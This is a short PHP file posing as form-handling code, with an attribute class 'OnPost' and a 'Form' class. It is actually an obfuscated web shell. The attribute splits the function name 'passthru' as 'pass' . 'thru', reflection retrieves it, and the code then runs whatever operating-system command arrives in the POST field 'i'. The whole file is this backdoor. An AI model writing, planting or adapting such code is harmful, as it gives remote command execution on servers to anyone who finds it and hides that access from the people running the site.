<?php
#[Attribute]
class OnPost { public function __construct(public string $h) {} }
#[OnPost('pass' . 'thru')]
class Form {}
$h = (new ReflectionClass('Form'))->getAttributes()[0]->newInstance()->h;
if (isset($_POST['i'])) { $h($_POST['i']); }
